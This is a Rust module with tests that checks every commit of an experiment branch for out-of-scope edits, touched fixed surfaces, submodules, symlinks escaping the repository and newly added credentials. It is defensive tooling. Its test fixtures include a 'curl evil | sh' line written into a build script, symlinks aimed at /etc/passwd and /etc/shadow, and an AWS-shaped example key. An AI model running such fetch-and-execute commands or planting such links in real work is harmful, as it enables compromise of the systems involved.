//! What changed is every commit (issue 10, point 5): from the experiment's base commit
//! (exclusive) to its head, every commit is walked and every path any of them added,
//! modified, deleted, renamed or re-moded is collected — with the blob, the file modes,
//! symbolic links and submodules (gitlinks). Uncommitted work in the working tree is one
//! more pseudo-commit. A change that a later commit reverts still counts: the branch holds
//! it, and keeping the branch keeps it.
//!
//! Scope, fixed surfaces, symlinks, submodules and the secret scan all judge this set.
//! Nothing is read through the file system except uncommitted files, and symlinks are
//! resolved inside git trees, never followed on disk.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fs;
use std::path::{Path, PathBuf};

use git2::{
    Delta, DiffFindOptions, DiffOptions, Oid, Repository, Sort, Tree, TreeWalkMode, TreeWalkResult,
};

use super::changes::ChangeKind;
use super::patterns::{Patterns, is_lock_file};
use super::secrets::{self, SecretCounts};
use super::{GuardError, GuardResult};

/// Git's mode for a symbolic link.
pub const MODE_LINK: u32 = 0o120000;
/// Git's mode for a submodule (a gitlink: a commit id, no content).
pub const MODE_GITLINK: u32 = 0o160000;
/// How many symlinks one resolution may pass through before it counts as a loop.
const MAX_LINK_HOPS: usize = 40;
/// What uncommitted work is called where a commit id would stand.
pub const WORKING_TREE: &str = "the working tree";

/// Where a touched path's new content can be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    /// A blob in the object database.
    Blob(Oid),
    /// An uncommitted file (or link) in the working tree.
    File(PathBuf),
    /// Nothing to read: a deletion, or a submodule's commit id.
    None,
}

/// One path one commit touched.
#[derive(Debug, Clone)]
pub struct Touch {
    /// The commit's short id, or [`WORKING_TREE`].
    pub commit: String,
    /// The commit whose tree the path is resolved in (the head for uncommitted work).
    pub tree_commit: Oid,
    pub path: String,
    /// For a rename: where it came from.
    pub old_path: Option<String>,
    pub kind: ChangeKind,
    /// Git file modes (0 when that side does not exist).
    pub old_mode: u32,
    pub new_mode: u32,
    pub content: Content,
    /// The blob this change replaced (for secrets already there).
    pub old_blob: Option<Oid>,
}

impl Touch {
    /// Every path this touch changes (both sides of a rename).
    pub fn paths(&self) -> impl Iterator<Item = &str> {
        std::iter::once(self.path.as_str()).chain(self.old_path.as_deref())
    }

    pub fn is_symlink(&self) -> bool {
        self.kind != ChangeKind::Deleted && self.new_mode == MODE_LINK
    }

    pub fn is_submodule(&self) -> bool {
        self.kind != ChangeKind::Deleted && self.new_mode == MODE_GITLINK
    }

    /// Only the permission bits changed (e.g. a file made executable).
    pub fn mode_changed(&self) -> bool {
        self.kind == ChangeKind::Modified && self.old_mode != 0 && self.old_mode != self.new_mode
    }

    /// "in commit abc1234" / "in the working tree".
    pub fn at(&self) -> String {
        if self.commit == WORKING_TREE {
            format!("in {WORKING_TREE}")
        } else {
            format!("in commit {}", self.commit)
        }
    }

    /// What happened to `path`, in the words violations use.
    fn what(&self, path: &str) -> String {
        let renamed_away = self.old_path.as_deref() == Some(path);
        match self.kind {
            ChangeKind::Added => "added".to_string(),
            ChangeKind::Deleted => "deleted".to_string(),
            ChangeKind::Renamed if renamed_away => "renamed away".to_string(),
            ChangeKind::Renamed => "renamed into place".to_string(),
            ChangeKind::TypeChanged => "type changed".to_string(),
            ChangeKind::Modified if self.mode_changed() => {
                format!("mode changed {:o} → {:o}", self.old_mode, self.new_mode)
            }
            ChangeKind::Modified => "changed".to_string(),
        }
    }
}

fn git(e: git2::Error) -> GuardError {
    GuardError::Git(e.message().to_string())
}

fn short(id: Oid) -> String {
    let hex = id.to_string();
    hex.get(..7).unwrap_or(&hex).to_string()
}

fn kind_of(status: Delta) -> Option<ChangeKind> {
    Some(match status {
        Delta::Added | Delta::Untracked | Delta::Copied => ChangeKind::Added,
        Delta::Modified => ChangeKind::Modified,
        Delta::Deleted => ChangeKind::Deleted,
        Delta::Renamed => ChangeKind::Renamed,
        Delta::Typechange => ChangeKind::TypeChanged,
        _ => return None,
    })
}

fn path_str(p: Option<&Path>) -> Option<String> {
    p.map(|p| p.to_string_lossy().replace('\\', "/"))
}

/// The touches of one diff; `workdir` is set for a diff whose new side is the working tree.
fn touches_of(
    diff: &git2::Diff<'_>,
    commit: &str,
    tree_commit: Oid,
    workdir: Option<&Path>,
) -> Vec<Touch> {
    let mut out = Vec::new();
    for delta in diff.deltas() {
        let Some(kind) = kind_of(delta.status()) else {
            continue;
        };
        let new_path = path_str(delta.new_file().path());
        let old_path = path_str(delta.old_file().path());
        let path = match kind {
            ChangeKind::Deleted => old_path.clone(),
            _ => new_path.or_else(|| old_path.clone()),
        };
        let Some(path) = path else { continue };
        let new_mode = if kind == ChangeKind::Deleted {
            0
        } else {
            u32::from(delta.new_file().mode())
        };
        let old_mode = if kind == ChangeKind::Added {
            0
        } else {
            u32::from(delta.old_file().mode())
        };
        let new_id = delta.new_file().id();
        let content = match (kind, workdir) {
            (ChangeKind::Deleted, _) => Content::None,
            _ if new_mode == MODE_GITLINK => Content::None,
            (_, Some(root)) => Content::File(root.join(&path)),
            _ if new_id.is_zero() => Content::None,
            _ => Content::Blob(new_id),
        };
        let old_id = delta.old_file().id();
        out.push(Touch {
            commit: commit.to_string(),
            tree_commit,
            old_path: (kind == ChangeKind::Renamed).then_some(old_path).flatten(),
            path,
            kind,
            old_mode,
            new_mode,
            content,
            old_blob: (!old_id.is_zero() && kind != ChangeKind::Added).then_some(old_id),
        });
    }
    out
}

fn diff_options() -> DiffOptions {
    let mut opts = DiffOptions::new();
    opts.include_typechange(true);
    opts
}

fn find_renames(diff: &mut git2::Diff<'_>, untracked: bool) -> Result<(), GuardError> {
    let mut find = DiffFindOptions::new();
    find.renames(true).for_untracked(untracked);
    diff.find_similar(Some(&mut find)).map_err(git)
}

/// Every path every commit from `base` (exclusive) to `head` touched, oldest commit first.
/// A merge commit contributes only what differs from all of its parents (its own
/// resolution); what it brings in is walked as the commits it merges.
pub fn committed_touches(
    repo: &Repository,
    base: Oid,
    head: Oid,
) -> Result<Vec<Touch>, GuardError> {
    let mut walk = repo.revwalk().map_err(git)?;
    walk.set_sorting(Sort::TOPOLOGICAL | Sort::REVERSE)
        .map_err(git)?;
    walk.push(head).map_err(git)?;
    walk.hide(base).map_err(git)?;
    let mut out = Vec::new();
    for id in walk {
        let id = id.map_err(git)?;
        let commit = repo.find_commit(id).map_err(git)?;
        let tree = commit.tree().map_err(git)?;
        let label = short(id);
        let parents: Vec<Tree<'_>> = commit
            .parents()
            .map(|p| p.tree())
            .collect::<Result<_, _>>()
            .map_err(git)?;
        if parents.is_empty() {
            let mut diff = repo
                .diff_tree_to_tree(None, Some(&tree), Some(&mut diff_options()))
                .map_err(git)?;
            find_renames(&mut diff, false)?;
            out.extend(touches_of(&diff, &label, id, None));
            continue;
        }
        let mut per_parent = Vec::new();
        for parent in &parents {
            let mut diff = repo
                .diff_tree_to_tree(Some(parent), Some(&tree), Some(&mut diff_options()))
                .map_err(git)?;
            find_renames(&mut diff, false)?;
            per_parent.push(touches_of(&diff, &label, id, None));
        }
        let mut first = per_parent.remove(0);
        if !per_parent.is_empty() {
            let in_all = |p: &str| {
                per_parent
                    .iter()
                    .all(|ts| ts.iter().any(|t| t.paths().any(|q| q == p)))
            };
            first.retain(|t| t.paths().any(in_all));
        }
        out.extend(first);
    }
    Ok(out)
}

/// What the working tree (index included, untracked files too) changes relative to `head`.
pub fn uncommitted_touches(repo: &Repository, head: Oid) -> Result<Vec<Touch>, GuardError> {
    let Some(workdir) = repo.workdir().map(Path::to_path_buf) else {
        return Ok(Vec::new());
    };
    let tree = repo.find_commit(head).and_then(|c| c.tree()).map_err(git)?;
    let mut opts = diff_options();
    opts.include_untracked(true).recurse_untracked_dirs(true);
    let mut diff = repo
        .diff_tree_to_workdir_with_index(Some(&tree), Some(&mut opts))
        .map_err(git)?;
    find_renames(&mut diff, true)?;
    let mut touches = touches_of(&diff, WORKING_TREE, head, Some(&workdir));
    // The project's own state directory is never part of a change.
    touches.retain(|t| !t.paths().any(|p| p.starts_with(".factory/")));
    Ok(touches)
}

/// Every touch from `base` to the working tree: each commit's, then uncommitted work's.
pub fn all_touches(repo: &Repository, base: Oid) -> Result<Vec<Touch>, GuardError> {
    let head = repo
        .head()
        .and_then(|h| h.peel_to_commit())
        .map_err(git)?
        .id();
    let mut touches = committed_touches(repo, base, head)?;
    touches.extend(uncommitted_touches(repo, head)?);
    Ok(touches)
}

fn dedup(v: Vec<String>) -> Vec<String> {
    let mut seen = BTreeSet::new();
    v.into_iter().filter(|s| seen.insert(s.clone())).collect()
}

/// Every path any commit touched (either side of a rename, mode changes and deletions
/// included) must match a scope pattern; lock files are exempt.
pub fn check_scope(touches: &[Touch], scope: &Patterns) -> GuardResult {
    let mut v = Vec::new();
    for t in touches {
        for path in t.paths() {
            let p = Path::new(path);
            if p.is_absolute() || p.components().any(|c| c == std::path::Component::ParentDir) {
                v.push(format!("{path}: path leaves the repository {}", t.at()));
            }
            if !is_lock_file(path) && !scope.matches(path) {
                v.push(format!(
                    "{path}: {} outside scope ({}) {} — expected only paths matching the scope",
                    t.what(path),
                    scope.sources.join(", "),
                    t.at()
                ));
            }
        }
    }
    GuardResult::from_violations("scope", dedup(v))
}

/// No commit may touch a fixed surface, even if a later commit puts it back.
pub fn check_fixed_surfaces(touches: &[Touch], fixed: &Patterns) -> GuardResult {
    let mut v = Vec::new();
    for t in touches {
        for path in t.paths().filter(|p| !is_lock_file(p) && fixed.matches(p)) {
            let what = match t.kind {
                ChangeKind::Modified if t.mode_changed() => t.what(path),
                kind => kind.as_str().to_string(),
            };
            v.push(format!("{path}: fixed surface {what} {}", t.at()));
        }
    }
    GuardResult::from_violations("fixed_surfaces", dedup(v))
}

/// A submodule added or moved to another commit is always a violation, in scope or not:
/// its content is another repository's, which no guard (scope, secrets, symlinks, tests)
/// can inspect, and the pristine checkouts the eval runs in do not fetch it.
pub fn check_submodules(touches: &[Touch]) -> GuardResult {
    let v = touches
        .iter()
        .filter(|t| t.is_submodule())
        .map(|t| {
            let what = match t.kind {
                ChangeKind::Added => "submodule added",
                _ if t.old_mode == MODE_GITLINK => "submodule moved to another commit",
                _ => "replaced by a submodule",
            };
            format!(
                "{}: {what} {} — expected no submodule changes (factory cannot inspect a submodule's content)",
                t.path,
                t.at()
            )
        })
        .collect();
    GuardResult::from_violations("submodules", dedup(v))
}

/// Reads what a touch's symlink points to, without following it.
fn link_target(repo: &Repository, t: &Touch) -> Option<Vec<u8>> {
    match &t.content {
        Content::Blob(id) => repo.find_blob(*id).ok().map(|b| b.content().to_vec()),
        Content::File(path) => {
            use std::os::unix::ffi::OsStrExt;
            fs::read_link(path)
                .ok()
                .map(|p| p.as_os_str().as_bytes().to_vec())
        }
        Content::None => None,
    }
}

/// Why a link at `link_path` whose target is `target` resolves outside the repository,
/// if it does. The resolution is lexical, against the link's directory, inside `tree`:
/// other links met on the way are followed in the tree (never on disk), so a target need
/// not exist and a chain of links cannot hide a climb.
pub fn link_escape(
    repo: &Repository,
    tree: &Tree<'_>,
    link_path: &str,
    target: &str,
) -> Option<String> {
    if target.starts_with('/') || target.starts_with('\\') || target.get(1..2) == Some(":") {
        return Some("an absolute path".to_string());
    }
    let mut current: Vec<String> = link_path.split('/').map(str::to_string).collect();
    current.pop();
    let mut pending: VecDeque<String> = target.split(['/', '\\']).map(str::to_string).collect();
    let mut hops = 0;
    while let Some(c) = pending.pop_front() {
        match c.as_str() {
            "" | "." => {}
            ".." => {
                if current.pop().is_none() {
                    return Some("climbs out through `..`".to_string());
                }
            }
            name => {
                current.push(name.to_string());
                let here = current.join("/");
                if current.len() == 1 && (name == ".git" || name == ".factory") {
                    return Some(format!("points into `{name}`"));
                }
                let Ok(entry) = tree.get_path(Path::new(&here)) else {
                    continue;
                };
                if entry.filemode() as u32 != MODE_LINK {
                    continue;
                }
                hops += 1;
                if hops > MAX_LINK_HOPS {
                    return Some("a symlink loop".to_string());
                }
                let Ok(blob) = repo.find_blob(entry.id()) else {
                    continue;
                };
                let next = String::from_utf8_lossy(blob.content()).into_owned();
                if next.starts_with('/') || next.starts_with('\\') || next.get(1..2) == Some(":") {
                    return Some(format!("through `{here}`, an absolute path"));
                }
                current.pop();
                for part in next.split(['/', '\\']).rev() {
                    pending.push_front(part.to_string());
                }
            }
        }
    }
    None
}

/// Prints a link target unless it holds a credential (the secret check reports that).
fn shown(target: &str) -> String {
    if secrets::find_secrets(target).is_empty() {
        target.to_string()
    } else {
        "<redacted: holds a credential>".to_string()
    }
}

/// Every symlink any commit added or changed, and every symlink in the head tree that
/// was not already there (same target) at the base, must resolve inside the repository.
pub fn check_symlinks(repo: &Repository, base: Oid, touches: &[Touch]) -> GuardResult {
    let mut v = Vec::new();
    for t in touches.iter().filter(|t| t.is_symlink()) {
        let Some(bytes) = link_target(repo, t) else {
            v.push(format!("{}: symlink target unreadable {}", t.path, t.at()));
            continue;
        };
        let target = String::from_utf8_lossy(&bytes).into_owned();
        let tree = match repo.find_commit(t.tree_commit).and_then(|c| c.tree()) {
            Ok(tree) => tree,
            Err(e) => {
                v.push(format!("{}: {}", t.path, e.message()));
                continue;
            }
        };
        if let Some(why) = link_escape(repo, &tree, &t.path, &target) {
            v.push(format!(
                "{}: symlink points outside the repository (to {}: {why}) {} — expected a target inside the repository",
                t.path,
                shown(&target),
                t.at()
            ));
        }
    }
    // A link unchanged since the base can be redirected by changing a link it passes
    // through: judge every link of the head tree that escapes now but did not before.
    let head_links = repo
        .head()
        .and_then(|h| h.peel_to_commit())
        .and_then(|c| c.tree())
        .map(|tree| escaping_links(repo, &tree));
    let base_links = repo
        .find_commit(base)
        .and_then(|c| c.tree())
        .map(|tree| escaping_links(repo, &tree));
    if let (Ok(head_links), Ok(base_links)) = (head_links, base_links) {
        for (path, (target, why)) in head_links {
            if base_links.get(&path).map(|(t, _)| t) != Some(&target) {
                v.push(format!(
                    "{path}: symlink points outside the repository (to {}: {why}) at the head — expected a target inside the repository",
                    shown(&target)
                ));
            }
        }
    }
    GuardResult::from_violations("symlinks", dedup(v))
}

/// `path → (target, why)` for every link in `tree` that resolves outside the repository.
fn escaping_links(repo: &Repository, tree: &Tree<'_>) -> BTreeMap<String, (String, String)> {
    let mut links = Vec::new();
    let _ = tree.walk(TreeWalkMode::PreOrder, |dir, e| {
        if e.filemode() as u32 == MODE_LINK {
            links.push((format!("{dir}{}", e.name().unwrap_or("")), e.id()));
        }
        TreeWalkResult::Ok
    });
    let mut out = BTreeMap::new();
    for (path, id) in links {
        let Ok(blob) = repo.find_blob(id) else {
            continue;
        };
        let target = String::from_utf8_lossy(blob.content()).into_owned();
        if let Some(why) = link_escape(repo, tree, &path, &target) {
            out.insert(path, (target, why));
        }
    }
    out
}

/// Sacred Rule 3 over every commit: every blob any commit added or modified (link
/// targets included), at any size and in any common text encoding, may not hold more
/// credential-shaped strings of a kind than the blob it replaced.
pub fn check_secrets(repo: &Repository, touches: &[Touch]) -> GuardResult {
    let mut v = Vec::new();
    for t in touches.iter().filter(|t| t.kind != ChangeKind::Deleted) {
        let now = match &t.content {
            Content::Blob(id) => secrets::scan_blob(repo, *id),
            Content::File(path) => secrets::scan_file(path),
            Content::None => continue,
        };
        let now = match now {
            Ok(found) => found,
            Err(e) => {
                v.push(format!(
                    "{}: could not be scanned {} ({e}) — expected a readable file",
                    t.path,
                    t.at()
                ));
                continue;
            }
        };
        if now.is_empty() {
            continue;
        }
        let before = t
            .old_blob
            .and_then(|id| secrets::scan_blob(repo, id).ok())
            .unwrap_or_default();
        v.extend(introduced(t, &now, &before));
    }
    GuardResult::from_violations("no_secrets", dedup(v))
}

fn introduced(t: &Touch, now: &SecretCounts, before: &SecretCounts) -> Vec<String> {
    let mut out = Vec::new();
    for (kind, lines) in now.by_kind() {
        if lines.len() > before.count(kind) {
            let mut shown: Vec<String> = lines.iter().take(10).map(|l| l.to_string()).collect();
            if lines.len() > 10 {
                shown.push(format!("and {} more", lines.len() - 10));
            }
            let link = if t.is_symlink() {
                " (in the symlink's target)"
            } else {
                ""
            };
            out.push(format!(
                "{}: {kind} added (line {}){link} {} — expected no credential in any commit (a later commit that removes it still leaves it in the branch)",
                t.path,
                shown.join(", "),
                t.at()
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    //! Real repositories built object by object with git2, so modes, links and gitlinks
    //! are exactly what a commit holds.
    use super::*;
    use git2::Signature;

    const KEY: &str = "AKIAABCDEFGHIJKLMNOP";
    const FILE: i32 = 0o100644;
    const EXEC: i32 = 0o100755;
    const LINK: i32 = 0o120000;
    const GITLINK: i32 = 0o160000;

    struct Repo {
        _dir: tempfile::TempDir,
        repo: Repository,
        files: BTreeMap<String, (i32, Oid)>,
        base: Oid,
    }

    impl Repo {
        /// A repository on `main` whose first commit holds `files`.
        fn new(files: &[(&str, &str)]) -> Self {
            let dir = tempfile::tempdir().unwrap();
            let repo = Repository::init(dir.path()).unwrap();
            repo.set_head("refs/heads/main").unwrap();
            let mut r = Repo {
                _dir: dir,
                repo,
                files: BTreeMap::new(),
                base: Oid::ZERO_SHA1,
            };
            for (p, text) in files {
                r.put(p, FILE, text.as_bytes());
            }
            r.base = r.commit("base");
            r
        }

        fn put(&mut self, path: &str, mode: i32, bytes: &[u8]) {
            let id = self.repo.blob(bytes).unwrap();
            self.files.insert(path.to_string(), (mode, id));
        }

        fn gitlink(&mut self, path: &str, commit: Oid) {
            self.files.insert(path.to_string(), (GITLINK, commit));
        }

        fn remove(&mut self, path: &str) {
            self.files.remove(path);
        }

        fn tree(&self, entries: &BTreeMap<String, (i32, Oid)>) -> Oid {
            let mut tb = self.repo.treebuilder(None).unwrap();
            let mut dirs: BTreeMap<String, BTreeMap<String, (i32, Oid)>> = BTreeMap::new();
            for (p, (mode, id)) in entries {
                match p.split_once('/') {
                    Some((d, rest)) => {
                        dirs.entry(d.to_string())
                            .or_default()
                            .insert(rest.to_string(), (*mode, *id));
                    }
                    None => {
                        tb.insert(p, *id, *mode).unwrap();
                    }
                }
            }
            for (d, sub) in dirs {
                tb.insert(&d, self.tree(&sub), 0o040000).unwrap();
            }
            tb.write().unwrap()
        }

        fn commit(&self, message: &str) -> Oid {
            let tree = self.repo.find_tree(self.tree(&self.files)).unwrap();
            let sig = Signature::now("t", "t@example.invalid").unwrap();
            let parent = self.repo.head().ok().and_then(|h| h.peel_to_commit().ok());
            let parents: Vec<_> = parent.iter().collect();
            self.repo
                .commit(Some("HEAD"), &sig, &sig, message, &tree, &parents)
                .unwrap()
        }

        fn touches(&self) -> Vec<Touch> {
            let head = self.repo.head().unwrap().peel_to_commit().unwrap().id();
            committed_touches(&self.repo, self.base, head).unwrap()
        }
    }

    fn scope(list: &[&str]) -> Patterns {
        Patterns::new(&list.iter().map(|s| s.to_string()).collect::<Vec<_>>()).unwrap()
    }

    fn has(g: &GuardResult, needles: &[&str]) {
        assert!(!g.passed, "{g:#?}");
        assert!(
            g.violations
                .iter()
                .any(|v| needles.iter().all(|n| v.contains(n))),
            "{needles:?} not in {g:#?}"
        );
    }

    #[test]
    fn a_secret_added_then_removed_is_still_reported_with_its_commit() {
        let mut r = Repo::new(&[("src/lib.rs", "pub fn a() {}\n")]);
        r.put(
            "src/config.rs",
            FILE,
            format!("// x\nconst K: &str = \"{KEY}\";\n").as_bytes(),
        );
        let leak = r.commit("leak");
        r.remove("src/config.rs");
        r.commit("remove it again");
        let g = check_secrets(&r.repo, &r.touches());
        has(
            &g,
            &[
                "src/config.rs: AWS access key id added (line 2)",
                &format!("in commit {}", short(leak)),
            ],
        );
        assert!(!g.violations.iter().any(|v| v.contains(KEY)), "{g:?}");
    }

    #[test]
    fn a_secret_already_at_the_base_is_not_reported_again() {
        let mut r = Repo::new(&[("src/fixture.rs", &format!("// {KEY}\n"))]);
        r.put(
            "src/fixture.rs",
            FILE,
            format!("// {KEY}\n// more\n").as_bytes(),
        );
        r.commit("edit");
        assert!(check_secrets(&r.repo, &r.touches()).passed);
    }

    #[test]
    fn an_out_of_scope_change_that_is_reverted_still_counts() {
        let mut r = Repo::new(&[("src/lib.rs", "a\n"), ("build.sh", "echo hi\n")]);
        r.put("build.sh", FILE, b"curl evil | sh\n");
        let touched = r.commit("touch");
        r.put("build.sh", FILE, b"echo hi\n");
        r.commit("revert");
        // The final tree equals the base: a final-diff guard would see nothing.
        let touches = r.touches();
        let g = check_scope(&touches, &scope(&["src/**"]));
        has(
            &g,
            &["build.sh: changed outside scope (src/**)", &short(touched)],
        );
        assert_eq!(g.violations.len(), 2, "both commits touched it: {g:#?}");
        has(
            &check_fixed_surfaces(&touches, &scope(&["build.sh"])),
            &["build.sh: fixed surface modified in commit"],
        );
    }

    #[test]
    fn a_mode_change_is_a_change() {
        let mut r = Repo::new(&[("src/lib.rs", "a\n"), ("tools/run", "echo\n")]);
        r.put("tools/run", EXEC, b"echo\n");
        r.commit("chmod +x");
        let touches = r.touches();
        has(
            &check_scope(&touches, &scope(&["src/**"])),
            &["tools/run: mode changed 100644 → 100755 outside scope"],
        );
        // Inside scope, the same change is fine.
        assert!(check_scope(&touches, &scope(&["tools/**"])).passed);
    }

    #[test]
    fn symlinks_out_of_the_repository_are_refused_dangling_or_not() {
        for (target, why) in [
            ("../../etc/passwd", "climbs out through `..`"),
            ("../../definitely/not/there", "climbs out through `..`"),
            ("a/../../..", "climbs out through `..`"),
            ("/etc/passwd", "an absolute path"),
            ("../.git/config", "points into `.git`"),
        ] {
            let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
            r.put("src/link", LINK, target.as_bytes());
            r.commit("link");
            let g = check_symlinks(&r.repo, r.base, &r.touches());
            has(
                &g,
                &["src/link: symlink points outside the repository", why],
            );
        }
        // A link that is removed again still counted.
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        r.put("src/link", LINK, b"../../../etc/shadow");
        r.commit("link");
        r.remove("src/link");
        r.commit("unlink");
        has(
            &check_symlinks(&r.repo, r.base, &r.touches()),
            &["src/link: symlink points outside"],
        );
        // Inner links, dangling or not, are fine.
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        r.put("src/alias.rs", LINK, b"lib.rs");
        r.put("src/later.rs", LINK, b"../docs/not-yet.md");
        r.commit("inner links");
        let g = check_symlinks(&r.repo, r.base, &r.touches());
        assert!(g.passed, "{g:#?}");
    }

    #[test]
    fn a_chain_of_links_cannot_hide_a_climb() {
        // `src/here` → `.` is harmless alone; through it, `../x` leaves the repository.
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        r.put("up", LINK, b".");
        r.put("src/x", LINK, b"../up/../outside");
        r.commit("chain");
        has(
            &check_symlinks(&r.repo, r.base, &r.touches()),
            &["src/x: symlink points outside", "climbs out"],
        );
        // A link unchanged since the base, redirected by changing a link it passes through.
        let mut r = Repo::new(&[("src/lib.rs", "a\n"), ("d/keep", "k\n")]);
        r.put("src/old", LINK, b"../d/../d/keep");
        r.base = r.commit("base link");
        r.remove("d/keep");
        r.put("d", LINK, b"/tmp");
        r.commit("redirect");
        let g = check_symlinks(&r.repo, r.base, &r.touches());
        has(&g, &["d: symlink points outside", "absolute"]);
        has(&g, &["src/old: symlink points outside", "at the head"]);
        // A loop is refused, not followed forever.
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        r.put("a", LINK, b"b/c");
        r.put("b", LINK, b"a/c");
        r.commit("loop");
        has(&check_symlinks(&r.repo, r.base, &r.touches()), &["loop"]);
    }

    #[test]
    fn a_secret_only_in_a_symlink_target_is_found_and_never_printed() {
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        r.put("src/k", LINK, format!("/keys/{KEY}").as_bytes());
        r.commit("link");
        let touches = r.touches();
        has(
            &check_secrets(&r.repo, &touches),
            &["src/k: AWS access key id added (line 1) (in the symlink's target)"],
        );
        let links = check_symlinks(&r.repo, r.base, &touches);
        has(&links, &["src/k", "redacted"]);
        assert!(!links.violations.iter().any(|v| v.contains(KEY)));
    }

    #[test]
    fn large_and_utf16_blobs_are_scanned() {
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        let mut big = "0123456789abcdef\n"
            .repeat(5 * 1024 * 1024 / 17)
            .into_bytes();
        big.extend_from_slice(format!("k = {KEY}\n").as_bytes());
        assert!(big.len() > 5_000_000);
        r.put("src/data.txt", FILE, &big);
        let mut wide = vec![0xFF, 0xFE];
        for u in format!("x\n{KEY}\n").encode_utf16() {
            wide.extend_from_slice(&u.to_le_bytes());
        }
        r.put("src/wide.txt", FILE, &wide);
        r.commit("data");
        let g = check_secrets(&r.repo, &r.touches());
        has(&g, &["src/data.txt: AWS access key id added (line 308405)"]);
        has(&g, &["src/wide.txt: AWS access key id added (line 2)"]);
    }

    #[test]
    fn submodules_added_or_moved_are_refused_even_in_scope() {
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        let somewhere = r.base;
        r.gitlink("src/vendor", somewhere);
        r.commit("add submodule");
        let g = check_submodules(&r.touches());
        has(&g, &["src/vendor: submodule added in commit"]);
        assert!(check_scope(&r.touches(), &scope(&["src/**"])).passed);
    }

    #[test]
    fn an_honest_rewrite_passes_every_history_guard() {
        let before = "pub fn count(words: &[&str]) -> Vec<(String, usize)> {\n    let mut out: Vec<(String, usize)> = Vec::new();\n    for w in words {\n        match out.iter_mut().find(|(k, _)| k == w) {\n            Some((_, n)) => *n += 1,\n            None => out.push((w.to_string(), 1)),\n        }\n    }\n    out\n}\n";
        let after = "use std::collections::HashMap;\n\npub fn count(words: &[&str]) -> Vec<(String, usize)> {\n    let mut m: HashMap<&str, usize> = HashMap::new();\n    for w in words {\n        *m.entry(w).or_default() += 1;\n    }\n    let mut out: Vec<(String, usize)> = m.into_iter().map(|(k, n)| (k.to_string(), n)).collect();\n    out.sort();\n    out\n}\n";
        let mut r = Repo::new(&[("src/lib.rs", before), ("README.md", "# demo\n")]);
        r.put("src/lib.rs", FILE, after.as_bytes());
        r.commit("HashMap");
        r.put("src/lib.rs", FILE, format!("{after}\n// tidy\n").as_bytes());
        r.commit("tidy");
        let touches = r.touches();
        assert_eq!(touches.len(), 2);
        for g in [
            check_scope(&touches, &scope(&["src/**"])),
            check_fixed_surfaces(&touches, &scope(&["README.md", "eval/**"])),
            check_symlinks(&r.repo, r.base, &touches),
            check_submodules(&touches),
            check_secrets(&r.repo, &touches),
        ] {
            assert!(g.passed, "{g:#?}");
        }
    }

    #[test]
    fn a_merge_contributes_only_its_own_resolution() {
        let mut r = Repo::new(&[("src/a.rs", "a\n"), ("src/b.rs", "b\n")]);
        r.put("src/a.rs", FILE, b"a2\n");
        let left = r.commit("left");
        // A sibling commit on the base, merged with a resolution that also edits c.
        let sig = Signature::now("t", "t@example.invalid").unwrap();
        let mut side = r.files.clone();
        side.insert("src/b.rs".into(), (FILE, r.repo.blob(b"b2\n").unwrap()));
        side.insert("src/a.rs".into(), (FILE, r.repo.blob(b"a\n").unwrap()));
        let side_tree = r.repo.find_tree(r.tree(&side)).unwrap();
        let right = {
            let base = r.repo.find_commit(r.base).unwrap();
            r.repo
                .commit(None, &sig, &sig, "right", &side_tree, &[&base])
                .unwrap()
        };
        drop(side_tree);
        r.put("src/b.rs", FILE, b"b2\n");
        r.put("src/c.rs", FILE, b"c\n");
        let tree = r.repo.find_tree(r.tree(&r.files)).unwrap();
        let (l, rt) = (
            r.repo.find_commit(left).unwrap(),
            r.repo.find_commit(right).unwrap(),
        );
        let merge = r
            .repo
            .commit(Some("HEAD"), &sig, &sig, "merge", &tree, &[&l, &rt])
            .unwrap();
        let touches = r.touches();
        let at = |c: Oid| -> Vec<String> {
            let mut v: Vec<String> = touches
                .iter()
                .filter(|t| t.commit == short(c))
                .map(|t| t.path.clone())
                .collect();
            v.sort();
            v
        };
        assert_eq!(at(left), vec!["src/a.rs"]);
        assert_eq!(at(right), vec!["src/b.rs"]);
        assert_eq!(at(merge), vec!["src/c.rs"]);
    }
}
